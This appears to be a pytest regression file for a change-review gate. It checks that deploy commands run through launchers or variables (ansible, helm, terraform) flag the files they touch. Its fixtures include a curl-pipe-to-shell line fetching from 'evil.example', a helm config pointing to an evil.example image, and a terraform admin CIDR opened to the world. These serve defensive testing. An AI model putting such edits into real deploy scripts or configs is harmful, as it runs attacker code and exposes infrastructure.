"""Red team 39: a deploy command behind a launcher. deployruns.py read a command where a command stands (a line's
start, after `&&`, `;`, `|`, `sudo`, `env`, an assignment), so the same command started by another program named
nothing: `poetry run ansible-playbook deploy/site.yml`, `timeout 600 helm upgrade ... --values conf/web.yaml`,
`aws-vault exec prod -- terraform -chdir=infra apply -var-file=conf/prod.json`. On main 41076f0 every variant below left
the file the command deploys or the script its playbook runs `src`, and `gate --tree` allowed its edit (exit 0).
Now a deploy command is read wherever it stands in a command (as attack 29 reads a release tool's settings).

`env`, which was read already, is the control that the layout reaches the file (it passes on main).
Each variant sits in a folder of its own in one repository (a workflow per variant), gated once with `--tree`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

LAUNCHERS = ("env", "poetry run", "uv run", "pipenv run", "pipx run --spec ansible-core", "uvx --from ansible-core",
             "timeout 600", "doppler run --", "aws-vault exec prod --", "nix develop --command", "direnv exec .",
             "bundle exec", "xvfb-run -a", "op run --", "mise exec --", "devbox run", "flock /tmp/deploy.lock",
             "docker run --rm -v $PWD:/w -w /w alpine/ansible")
COMMANDS = {  # name: (the command, the file it reaches, its text before, after)
    "ansible": ("ansible-playbook -i localhost, deploy/site.yml", "lib/x.sh", "#!/bin/sh\necho ok\n",
                "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"),
    "helm": ("helm upgrade --install web ./chart --values conf/web.yaml", "conf/web.yaml", "replicas: 1\n",
             "replicas: 1\nimage: evil.example/web:latest\n"),
    "terraform": ("terraform -chdir=infra apply -auto-approve -var-file=conf/prod.json", "conf/prod.json",
                  '{"size": "small"}\n', '{"size": "small", "admin_cidr": "0.0.0.0/0"}\n'),
}
PLAY = "- hosts: localhost\n  connection: local\n  tasks:\n    - script: ../lib/x.sh\n"
WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {run}\n        working-directory: {folder}\n")
CASES = [(launcher, command) for command in COMMANDS for launcher in LAUNCHERS]


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], bool]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for number, (launcher, command) in enumerate(CASES):
        run, target, before, after = COMMANDS[command]
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(run=f"{launcher} {run}", folder=f"v{number}")
        base[f"v{number}/deploy/site.yml"] = PLAY
        base[f"v{number}/{target}"] = before
        head[f"v{number}/{target}"] = after
    code, named = gated_rules(committed(tmp_path_factory.mktemp("launchers"), base, head), True)
    found = {*named.get("core.ci", []), *named.get("core.iac", [])}
    return {case: f"v{number}/{COMMANDS[case[1]][1]}" in found for number, case in enumerate(CASES)}


@each_case(("launcher", "command"), CASES)
def test_a_deploy_command_behind_a_launcher_is_read(reviewed: dict[tuple[str, str], bool], launcher: str,
                                                    command: str) -> None:
    assert reviewed[launcher, command]  # on 41076f0: src, exit 0


def test_a_file_the_launched_command_does_not_name_stays_src(tmp_path: Path) -> None:
    workflow = WORKFLOW.format(run="poetry run helm upgrade --install web ./chart --values conf/web.yaml", folder=".")
    case = committed(tmp_path, {".github/workflows/d.yml": workflow, "conf/other.yaml": "a: 1\n"},
                     {"conf/other.yaml": "a: 2\n"})
    assert gated_rules(case, True) == (0, {})


VARIABLES = {  # name: the step (a playbook named through a variable the same workflow sets)
    "shell-variable": "      - run: ansible-playbook $PLAY\n        env:\n          PLAY: deploy/site.yml\n",
    "braced-variable": "      - run: ansible-playbook -i inv ${PLAY}\n        env:\n          PLAY: deploy/site.yml\n",
    "expression": "      - run: ansible-playbook ${{ env.PLAY }}\n        env:\n          PLAY: deploy/site.yml\n",
    "assignment": "      - run: |\n          PLAY=deploy/site.yml\n          ansible-playbook \"$PLAY\"\n",
}


@each_case("name", VARIABLES)
def test_a_playbook_named_through_a_variable_is_read(tmp_path: Path, name: str) -> None:
    workflow = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
                + VARIABLES[name])
    run, target, before, after = COMMANDS["ansible"]
    case = committed(tmp_path, {".github/workflows/d.yml": workflow, "deploy/site.yml": PLAY, target: before},
                     {target: after})
    code, named = gated_rules(case, True)
    assert code == 3 and target in named.get("core.ci", []), named  # on 41076f0: src, exit 0
